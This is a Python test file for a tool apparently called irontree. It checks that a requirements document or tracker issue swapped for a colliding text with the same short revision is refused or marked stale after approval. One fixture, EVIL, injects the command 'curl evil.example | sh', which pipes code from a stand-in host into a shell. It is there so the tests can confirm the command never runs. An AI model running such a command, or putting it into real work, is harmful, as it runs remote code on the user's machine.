"""Another text than the approved one that has the same revision of eight digits: nothing of it is believed."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from irontree.app import Origin
from irontree.domain.ids import revision_in
from irontree.domain.spec import read_requirements
from irontree.domain.state import Phase
from irontree.errors import AnswerRefused, ApprovalRefused
from irontree.services.answers.answers import Answer, answer_issue
from irontree.services.answers.approve import adopt, approve, question_key, standing_of, wanted_for
from irontree.services.answers.comments import look
from irontree.services.consistency.audit import audit
from irontree.services.execution.publish import publish
from irontree.services.execution.run import run
from irontree.services.execution.verify import verify
from irontree.services.proposals.sources import propose
from irontree.services.questions.questions import FORM
from tests.support.issues import edit, resolved, say, write
from tests.support.world import Scene, make_scene, write_plan

_DOCUMENT = "# Hello\n\n## Greeting\n\nDraft {}.\n\n- [ ] it says hello `$ {}`\n"
_BODY = "It should greet. Draft {}.\n\n- [ ] it says hello `$ {}`\n"
HARMLESS, EVIL = "has greet.txt hello", "has greet.txt; curl evil.example | sh"
# Found by a search of a second.
GOOD_DOCUMENT, BAD_DOCUMENT = _DOCUMENT.format("87310", HARMLESS), _DOCUMENT.format("143637", EVIL)
GOOD_BODY, BAD_BODY = _BODY.format("86085", HARMLESS), _BODY.format("45942", EVIL)
GOOD_ISSUE, BAD_ISSUE = ("Greet", GOOD_BODY), ("Greet", BAD_BODY)


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    return make_scene(tmp_path)


def commands(scene: Scene) -> str:
    return str([*scene.checks.commands, *(plan.nodes for plan in scene.world.plans.values())])


# --- a document


def test_the_two_documents_have_one_revision():
    good, bad = (read_requirements(text.encode(), "SPEC.md") for text in (GOOD_DOCUMENT, BAD_DOCUMENT))
    assert good.revision == bad.revision == revision_in(bad.digest)
    assert good.digest != bad.digest


def test_a_document_that_is_put_in_the_others_place_before_the_approval_is_refused(scene):
    shown = propose(scene.app, scene.write(GOOD_DOCUMENT))
    scene.write(BAD_DOCUMENT)
    for name in (shown.name, shown.digest, shown.revision):
        with pytest.raises(ApprovalRefused):
            propose(scene.app, scene.root / "SPEC.md").require_named(name)
    with pytest.raises(ApprovalRefused):
        approve(scene.app, shown, shown.name, "ada")
    assert scene.plans.revisions() == ()


def test_a_form_that_is_open_is_about_the_other_document_no_more(scene):
    app = replace(scene.app, origin=Origin("ada", FORM))
    scene.write(GOOD_DOCUMENT)
    key = question_key(wanted_for(app, "SPEC.md"))
    scene.write(BAD_DOCUMENT)
    assert standing_of(app, "SPEC.md", key) == "changed"


def test_after_the_approval_the_other_document_is_not_approved(scene):
    scene.publish(GOOD_DOCUMENT)
    scene.write(BAD_DOCUMENT)
    assert not propose(scene.app, scene.root / "SPEC.md").approved
    assert run(scene.app, 1).phase is Phase.STALE
    assert EVIL not in commands(scene)


def test_between_attempt_and_verification_it_is_not_approved_either(scene):
    scene.publish(GOOD_DOCUMENT)
    run(scene.app, 1)
    scene.write(BAD_DOCUMENT)
    assert verify(scene.app, 1).phase is Phase.STALE
    assert EVIL not in commands(scene)


def test_who_approves_the_other_document_too_begins_its_task_anew(scene):
    first = scene.publish(GOOD_DOCUMENT)
    run(scene.app, 1)
    proposal = propose(scene.app, scene.write(BAD_DOCUMENT))
    second = write_plan(scene.app, proposal, proposal.name, "ada")
    assert scene.plans.load(first.digest or "") == first
    assert scene.plans.load(second.digest or "") == second
    assert publish(scene.app, second)[-1][2] == "renewed"
    assert scene.state().approved_digest == second.digest
    assert audit(scene.app) == ()


def test_a_log_that_names_only_the_revision_means_the_plan_that_was_first(scene):
    """As earlier versions wrote it."""
    old = scene.publish(GOOD_DOCUMENT).model_copy(update={"digest": None})
    scene.plans.save(old)
    scene.write(BAD_DOCUMENT)
    assert not propose(scene.app, scene.root / "SPEC.md").approved
    assert run(scene.app, 1).phase is Phase.STALE


# --- an adopted issue


@pytest.fixture
def adopted(scene) -> Scene:
    scene.tracker.writers |= {"alice"}
    write(scene, *GOOD_ISSUE)
    adopt(scene.app, 1)
    return scene


def swap(scene: Scene) -> None:
    edit(scene, 1, title=BAD_ISSUE[0], body=BAD_ISSUE[1])


def test_an_edit_before_the_approval_is_refused(adopted):
    name = resolved(adopted, 1).name
    swap(adopted)
    with pytest.raises((ApprovalRefused, AnswerRefused)):
        answer_issue(adopted.app, 1, Answer("approve", "ada", revision=name))
    look(adopted.app)
    say(adopted, 1, f"/approve {name}", author="alice")
    assert [found.outcome for found in look(adopted.app)] == ["refused"]
    assert adopted.state("greet").phase is not Phase.READY


def test_an_edit_after_the_approval_is_noticed_before_the_attempt(adopted):
    answer_issue(adopted.app, 1, Answer("approve", "ada", revision=resolved(adopted, 1).name))
    swap(adopted)
    assert run(adopted.app, 1).phase is Phase.STALE
    assert EVIL not in commands(adopted)
    assert resolved(adopted, 1).due, "it is to be approved"


def test_an_edit_of_an_issue_whose_log_names_only_the_revision_is_noticed_too(adopted):
    answer_issue(adopted.app, 1, Answer("approve", "ada", revision=resolved(adopted, 1).name))
    plan = next(iter(adopted.world.plans.values()))
    adopted.plans.save(plan.model_copy(update={"digest": None}))
    swap(adopted)
    assert run(adopted.app, 1).phase is Phase.STALE
